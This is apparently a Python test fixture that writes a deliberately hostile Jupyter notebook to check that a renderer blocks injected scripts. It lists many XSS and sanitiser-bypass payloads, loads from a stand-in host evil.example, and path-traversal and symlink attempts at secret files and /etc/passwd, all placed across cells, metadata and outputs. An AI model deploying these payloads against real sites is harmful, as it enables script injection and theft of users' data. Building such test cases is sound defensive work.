"""A course whose notebook tries whatever a page could be made to do: run, load, read files, mislead the parser."""

import base64
import os

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

RUN = "window.ran = true"
HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><script>{RUN}",
    f"<img src=x onerror='{RUN}' alt='broken'>",
    f"<img src='x' OnErRoR={RUN.replace(' ', '')}>",
    f"<svg onload='{RUN}'><circle r='5' onclick='{RUN}'/></svg>",
    f"<svg><script>{RUN}</script><animate onbegin='{RUN}' attributeName='x' dur='1s'/></svg>",
    "<svg><a xlink:href='javascript:window.ran=true'><text y='20'>press</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=true></svg>#x'/></svg>",
    "<svg><image href='https://evil.example/a.png'/><foreignObject><iframe src='/etc/passwd'/></foreignObject></svg>",
    "<svg><rect width='9' height='9' fill='url(https://evil.example/p.svg#p)'/></svg>",
    "<svg><rect width='9' height='9' fill='u&#114;l(https://evil.example/p.svg#p)'/></svg>",
    "<a href='javascript:window.ran=true'>press</a>",
    "<a href=' java&#115;cript&colon;window.ran=true'>press</a>",
    "<a href='jav&#x09;ascript:window.ran=true'>press</a>",
    "<a href='vbscript:x'>press</a> <a href='file:///etc/passwd'>press</a>",
    "<a href='data:text/html,<script>window.ran=true</script>'>press</a>",
    "<a href='https://example.org/a?b=1&amp;c=2' target='_top' ping='https://evil.example/'>a page elsewhere</a>",
    "<iframe src='/etc/passwd'></iframe><iframe srcdoc='<script>parent.ran=true</script>'></iframe>",
    "<object data='/etc/passwd'></object><embed src='/etc/passwd'><applet code=x></applet>",
    "<form action='https://evil.example/'><input name=a autofocus onfocus='window.ran=true'><button>ok</button></form>",
    "<button formaction='javascript:window.ran=true'>press</button>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<link rel='stylesheet' href='https://evil.example/x.css'><style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/a.png)">styled</p>',
    "<p style='color:red&#x3b background:image-set(\"https://evil.example/a.png\" 1x)'>styled</p>",
    "<p style='position:fixed;inset:0;text-align:right'>styled</p>",
    "<img src='https://evil.example/a.png' alt='elsewhere'><img src='//evil.example/a.png' alt='elsewhere too'>",
    "<img srcset='https://evil.example/a.png 2x' src='https://evil.example/a.png'>",
    "<picture><source srcset='https://evil.example/a.png' media='(max-width: 9px)'><source srcset='data/dot.png 2x'>"
    "<source srcset='data:image/png;base64,AA 1x, https://evil.example/a.png 2x'><img src='x' alt='none'></picture>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='><img src='data:image/png;base64,AA\" onerror=\"window.ran=true'>",
    "<video src='https://evil.example/a.mp4' poster='https://evil.example/a.png' autoplay></video>",
    "<audio src='https://evil.example/a.mp3'></audio>",
    "<details ontoggle='window.ran=true' open>folded</details><marquee onstart='window.ran=true'>x</marquee>",
    # Known ways to make a parser read otherwise what a sanitiser wrote.
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=true></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.ran=true></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.ran=true>'></svg>",
    "<svg><p><title><a id='</title><img src=1 onerror=window.ran=true>'></title></p></svg>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=true>'></noscript>",
    "<!--><img src=x onerror=window.ran=true>--> <!-- --!><img src=x onerror=window.ran=true> -->",
    "<textarea><img title='</textarea><img src=x onerror=window.ran=true>'></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=window.ran=true>'></xmp><plaintext>",
    "<math href='javascript:window.ran=true'><mi xlink:href='javascript:window.ran=true'>x</mi></math>",
]
FILES = [
    "<img src='/etc/passwd' alt='a'><img src='../secret.png' alt='b'><img src='data/../../secret.png' alt='c'>",
    "<img src='data/out.png' alt='d'><img src='%2e%2e/secret.png' alt='e'><img src='data/pipe.png' alt='f'>",
    "<a href='../secret.csv'>g</a><a href='/etc/passwd'>h</a><a href='data/out.csv'>i</a><a href='page.html'>j</a>",
    "<img src='data/road.csv' alt='k'><a href='data/drawing.svg'>l</a><a href='data/../data/road.csv'>m</a>",
    "<a href='../workbooks/data/road.csv'>n</a><img src='data/dot.png' alt='o'><img src='data/drawing.svg' alt='p'>",
]
DOT = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
TITLE = '# A *title* <script>window.ran=true</script> & "more" <img src=x onerror=window.ran=true>'
DRAWING = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><circle r='5'/></svg>"
SECRET = "root-only-words"


def write_hostile(root):
    """root/workbooks with one notebook of everything above, the files it asks for, and what it must not get."""
    folder = root / "workbooks"
    (folder / "data").mkdir(parents=True)
    for name in ("secret.png", "secret.csv", "workbooks/page.html"):
        (root / name).write_text(SECRET)
    (folder / "data/road.csv").write_text("distance_m,height_mm\n")
    (folder / "data/dot.png").write_bytes(DOT)
    (folder / "data/drawing.svg").write_text(DRAWING)
    (folder / "data/out.png").symlink_to(root / "secret.png")
    (folder / "data/out.csv").symlink_to(root / "secret.csv")
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "data/pipe.png")
    pieces = [*HTML, *FILES]
    attachment = {"a.png": {"text/html": base64.b64encode(HTML[0].encode()).decode()}}
    cells = [new_markdown_cell(TITLE)]
    cells += [new_markdown_cell(f"{piece}\n\nSentence {n}.") for n, piece in enumerate(pieces)]
    cells += [
        new_markdown_cell(
            "[a](javascript:window.ran=true) [b](<javascript:window.ran=true>) ![c](javascript:window.ran=true) "
            "<javascript:window.ran=true>\n\n[d]: javascript:window.ran=true\n\n[d] ![e](attachment:a.png)\n\n"
            r"$\href{javascript:window.ran=true}{x}$ $\text{<img src=x onerror=window.ran=true>}$ $<script>$",
            attachments=attachment,
        ),
        *(new_raw_cell(piece, metadata={"raw_mimetype": "text/html"}) for piece in pieces),
        new_code_cell("'</pre><script>window.ran=true</script>'", execution_count=1, outputs=outputs(pieces)),
    ]
    cells[1].metadata["tags"] = ['"><script>window.ran=true</script>']
    language = {"name": '"><script>window.ran=true</script>'}
    nbformat.write(new_notebook(cells=cells, metadata={"language_info": language}), folder / "00-hostile.ipynb")
    return folder / "00-hostile.ipynb"


def outputs(pieces):
    """The same from a cell's output, in each form that one may have."""
    alt = {"image/png": {"alt": '"><script>window.ran=true</script>', "width": '1" onload="window.ran=true'}}
    script = {"application/javascript": RUN, "text/plain": "in words"}
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>window.ran=true</script>"}}
    return [
        *(new_output("display_data", {"text/html": piece}) for piece in pieces),
        *(new_output("display_data", {"text/markdown": piece}) for piece in pieces),
        *(new_output("display_data", {"text/latex": piece}) for piece in HTML),
        new_output("display_data", {"image/svg+xml": DRAWING}),
        new_output("display_data", {"image/png": 'AA" onerror="window.ran=true'}, metadata=alt),
        new_output("display_data", script),
        new_output("display_data", view | {"text/plain": "a widget"}),
        new_output("stream", text=HTML[0] + "\x1b[31m<img src=x onerror=window.ran=true>\x1b[0m"),
        new_output("error", ename=HTML[0], evalue=HTML[2], traceback=[HTML[0], HTML[2]]),
    ]
